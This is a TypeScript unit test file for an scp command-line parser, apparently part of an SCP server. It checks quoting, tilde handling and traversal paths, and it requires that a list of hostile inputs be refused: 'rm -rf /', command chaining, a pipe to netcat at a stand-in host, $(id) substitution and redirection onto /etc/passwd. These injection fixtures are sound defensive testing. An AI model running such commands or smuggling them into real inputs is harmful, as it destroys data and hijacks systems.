// Command-line parsing for scp exec requests, hostile lines included; nothing here is ever executed.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MAX_COMMAND_LENGTH, parseScpCommand, splitShellWords } from './command.js';

function targetOf(line: string): string | undefined {
  const command = parseScpCommand(line);
  return command?.kind === 'sink' ? command.target : undefined;
}

function sourcesOf(line: string): readonly string[] | undefined {
  const command = parseScpCommand(line);
  return command?.kind === 'source' ? command.sources : undefined;
}

describe('parseScpCommand', () => {
  it('reads what OpenSSH scp -O sends for an upload', () => {
    assert.deepEqual(parseScpCommand('scp -t big.bin'), {
      kind: 'sink',
      recursive: false,
      preserve: false,
      targetMustBeDirectory: false,
      target: 'big.bin',
    });
    assert.deepEqual(parseScpCommand('scp -v -r -p -d -t -- /in/'), {
      kind: 'sink',
      recursive: true,
      preserve: true,
      targetMustBeDirectory: true,
      target: '/in/',
    });
  });

  it('reads a download, with -d accepted and ignored as OpenSSH sends it with -f too', () => {
    assert.deepEqual(parseScpCommand('scp -r -p -d -f out/report.csv'), {
      kind: 'source',
      recursive: true,
      preserve: true,
      sources: ['out/report.csv'],
    });
  });

  it('accepts combined flags and several sources', () => {
    assert.deepEqual(parseScpCommand('scp -prf a b'), {
      kind: 'source',
      recursive: true,
      preserve: true,
      sources: ['a', 'b'],
    });
    assert.equal(parseScpCommand('scp -pt x')?.kind, 'sink');
  });

  it('passes traversal paths through untouched: the core confines them, not the parser', () => {
    assert.equal(targetOf('scp -t ../..'), '../..');
    assert.deepEqual(sourcesOf('scp -f /etc/passwd'), ['/etc/passwd']);
  });

  it('keeps a path that starts with a dash after --', () => {
    assert.equal(targetOf('scp -t -- -odd'), '-odd');
  });

  it('unquotes paths the way the remote shell would', () => {
    assert.equal(targetOf("scp -t 'my file'"), 'my file');
    assert.equal(targetOf('scp -t my\\ file'), 'my file');
    assert.equal(targetOf('scp -t "a \\"b\\""'), 'a "b"');
  });

  it('maps ~ and ~/x to the home, which is the virtual root', () => {
    assert.equal(targetOf('scp -t ~'), '/');
    assert.equal(sourcesOf('scp -f ~/in/a')?.[0], '/in/a');
    assert.equal(sourcesOf("scp -f '~/x'")?.[0], '~/x');
  });

  it('takes wildcards literally: there is no shell to expand them', () => {
    assert.deepEqual(sourcesOf('scp -f *.csv'), ['*.csv']);
  });

  for (const line of [
    '',
    'scp',
    'scp -t',
    'scp -f',
    'scp x',
    'scp -t -f x',
    'scp -tf x',
    'scp -t a b',
    'scp -x -t a',
    'scp -t -l 100 a',
    'scp -S /bin/sh -t a',
    'scp -t ""',
    "scp -t ''",
    '/usr/bin/scp -t a',
    'scpx -t a',
    'rm -rf /',
    'scp -t a; rm -rf /',
    'scp -t a && reboot',
    'scp -t a | nc evil 1',
    'scp -t $(id)',
    'scp -t `id`',
    'scp -t "$HOME"',
    'scp -t a > /etc/passwd',
    'scp -t a\nrm x',
    'scp -t a\0b',
    "scp -t 'unterminated",
    'scp -t "unterminated',
    'scp -t trailing\\',
    'scp -t ~root/x',
    'scp -f #comment',
  ]) {
    it(`refuses ${JSON.stringify(line)}`, () => {
      assert.equal(parseScpCommand(line), null);
    });
  }

  it('refuses an overlong command line', () => {
    assert.equal(parseScpCommand(`scp -t ${'a'.repeat(MAX_COMMAND_LENGTH)}`), null);
  });
});

describe('splitShellWords', () => {
  it('splits on blanks and keeps quoted blanks', () => {
    assert.deepEqual(splitShellWords("  scp\t-t  'a  b'c "), ['scp', '-t', 'a  bc']);
  });

  it('keeps a backslash that escapes nothing special inside double quotes', () => {
    assert.deepEqual(splitShellWords('"a\\b"'), ['a\\b']);
  });

  it('keeps a # that is inside a word', () => {
    assert.deepEqual(splitShellWords('a#b'), ['a#b']);
  });
});
